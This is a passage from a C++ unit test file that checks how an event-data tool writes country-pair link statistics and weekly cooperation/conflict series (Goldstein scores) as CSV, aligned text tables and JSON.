  EXPECT_EQ(j["links"][1], json::parse(R"({"source":"USA","target":"JPN","events":2,"verbal_coop":1,
      "material_coop":1,"verbal_conflict":0,"material_conflict":0,"cooperation":2,"conflict":0,
      "goldstein_sum":4.0,"goldstein_mean":2.0})"));
  expect_subset(j["links"][0], {{"material_conflict", 1}, {"conflict", 1}, {"goldstein_mean", -10.0}});
}

TEST(Series, CsvTableAndJson) {
  std::vector<SeriesRow> rows(2);
  rows[0] = {"2024-10-14", 4, {2, 0, 1, 1}, 1.8};  // mean 0.45
  rows[1].period = "2024-10-21";

  std::ostringstream csv;
  write_series(SeriesFormat::Csv, "USA>JPN", true, rows, csv);
  EXPECT_EQ(csv.str(),
            "period,events,verbal_coop,material_coop,verbal_conflict,material_conflict,goldstein_sum,goldstein_mean\n"
            "2024-10-14,4,2,0,1,1,1.80,0.45\n"
            "2024-10-21,0,0,0,0,0,0.00,0.00\n");

  std::ostringstream table;
  write_series(SeriesFormat::Table, "USA>JPN", true, rows, table);
  auto lines = split(table.str(), '\n');
  ASSERT_EQ(lines.size(), 4u);  // header, two rows, "" after the last '\n'
  EXPECT_EQ(lines[0].substr(0, 6), "period");
  EXPECT_EQ(lines[1].substr(0, 10), "2024-10-14");
  EXPECT_EQ(lines[0].size(), lines[1].size());  // right-aligned numbers end under their headers
  EXPECT_EQ(lines[1].substr(lines[1].size() - 4), "0.45");

  std::ostringstream js;
  write_series(SeriesFormat::Json, "USA-JPN", false, rows, js);
  json j = json::parse(js.str());
  expect_subset(j, {{"dyad", "USA-JPN"}, {"directed", false}});
  ASSERT_EQ(j["series"].size(), 2u);
  expect_subset(j["series"][0], {{"period", "2024-10-14"}, {"material_conflict", 1}, {"goldstein_mean", 0.45}});
  EXPECT_EQ(j["series"][1]["events"], 0);
}
